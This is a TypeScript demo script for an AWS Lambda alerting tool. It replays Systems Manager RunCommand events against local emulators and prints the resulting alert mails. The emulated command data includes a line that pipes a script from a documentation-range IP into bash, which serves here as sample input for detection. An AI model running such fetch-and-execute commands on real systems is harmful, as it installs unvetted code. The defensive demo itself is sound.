import { nativeCommandEvent, sendCommandEvent } from '../support/aws-events'
import { startAwsWorld } from '../support/aws-world'

/**
 * `npm run demo:aws`: the built Lambda bundle with local emulators of its services, a short story of events, and the mails that would
 * arrive. Ends by itself.
 */
const demo = async (): Promise<void> => {
  const world = await startAwsWorld()
  try {
    console.log(`The Lambda bundle runs under ${world.lambda.runtime === 'ric' ? "AWS's own runtime interface client" : 'a local stand-in of the runtime interface client'}; nothing leaves this machine.\n`)
    const commandId = '00000000-0000-0000-0000-0000000000c1'
    world.ssm.state.commands.push({ CommandId: commandId, DocumentName: 'AWS-RunShellScript', Parameters: { commands: ['curl -s http://203.0.113.9/setup.sh | bash'] } })
    const story = [
      { what: 'role/Deploy runs a command on one machine; the text is read from Systems Manager', event: sendCommandEvent({ commandId }) },
      { what: 'the same role runs the same document on four more machines', event: sendCommandEvent({ time: '2026-03-02T10:04:00Z', instances: ['1', '2', '3', '4'].map((digit) => `i-0123456789abcdef${digit}`) }) },
      { what: 'the first event is delivered again: nothing may be sent', event: sendCommandEvent({ commandId, eventId: '00000000-0000-0000-0000-000000000001' }) },
      { what: "Systems Manager's own event about a command of which no call was seen: kept for fifteen minutes", event: nativeCommandEvent('00000000-0000-0000-0000-0000000000c9', ['systemctl restart nginx']) },
    ]
    for (const { what, event } of story) {
      console.log(`* ${what}`)
      const result = await world.lambda.invoke(event)
      if (!result.ok) throw new Error(`${result.errorType}: ${result.errorMessage}`)
    }
    const mails = await world.alerts.read({ atLeast: 2 })
    for (const { subject, body } of mails) console.log(`\n${'='.repeat(100)}\nSubject: ${subject ?? ''}\n\n${body}`)
    console.log(`${'='.repeat(100)}\n${mails.length} mails`)
  } finally {
    await world.stop()
  }
}

demo().catch((cause: unknown) => {
  console.error(cause)
  process.exitCode = 1
})
